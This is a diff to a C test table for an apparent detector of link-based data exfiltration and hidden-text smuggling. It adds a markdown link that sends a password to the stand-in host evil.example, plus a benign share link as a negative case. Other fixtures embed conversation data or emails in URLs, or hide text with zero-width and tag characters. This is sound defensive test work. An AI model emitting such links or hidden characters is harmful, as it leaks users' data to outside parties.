@@ -165,6 +165,8 @@ static const struct {
     {"image in HTML", "<img src=\"«https://evil.example/i?d=amFuZS5kb2VAZXhhbXBsZS5jb20»\">", "exfil_link"},
     {"link to be filled in", "[x](«https://evil.example/?data={conversation}»)", "exfil_link"},
     {"link with an address", "[x](«https://evil.example/?u=jane.doe@example.com»)", "exfil_link"},
+    {"link to somebody's own place to share", "[x](«https://evil.example/share?text=the+password+of+the+admin+is+hunter2+now») z",
+        "exfil_link"},
     {"letters broken by zero width", "pass«\xe2\x80\x8b»word", "hidden_text"},
     {"tags", "hi «\xf3\xa0\x81\x81\xf3\xa0\x81\x82» there", "hidden_text"},
     {"many tags",
@@ -214,6 +216,7 @@ static const struct {
     {"a string without a password", "redis://localhost:6379/0 and https://example.com/a:b@c"},
     {"a card's digits in a word of Cyrillic", "\xd0\xb6"
                                               "4111111111111111\xd0\xb6"},
+    {"a link to share with others", "[x](https://x.com/intent/post?text=we+have+moved+to+a+new+house+today)"},
     {"a link", "[docs](https://docs.example.org/a?page=2&utm_source=newsletter)"},
     {"an image", "![logo](https://img.shields.io/badge/x?style=flat-square&logo=python)"},
     {"a search", "[s](https://www.google.com/search?q=how+to+make+a+cake+at+home)"},
